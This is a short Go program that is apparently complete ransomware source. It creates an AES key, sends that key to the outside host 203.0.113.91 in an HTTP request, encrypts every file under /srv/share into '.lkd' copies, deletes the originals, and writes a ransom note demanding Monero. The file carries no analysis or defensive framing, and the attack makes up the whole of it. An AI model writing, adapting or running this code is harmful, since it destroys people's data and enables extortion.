package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/hex"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	key := make([]byte, 32)
	rand.Read(key)
	http.Get("http://203.0.113.91/reg?k=" + hex.EncodeToString(key))
	blk, _ := aes.NewCipher(key)
	gcm, _ := cipher.NewGCM(blk)
	root := "/srv/share"
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(p) == ".lkd" {
			return nil
		}
		plain, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		nonce := make([]byte, gcm.NonceSize())
		rand.Read(nonce)
		if os.WriteFile(p+".lkd", gcm.Seal(nonce, nonce, plain, nil), 0o600) == nil {
			os.Remove(p)
		}
		return nil
	})
	os.WriteFile(filepath.Join(root, "HOW_TO_RESTORE.txt"), []byte("Pay 2 XMR to 4MadeUp, then mail restore@example.org\n"), 0o644)
}
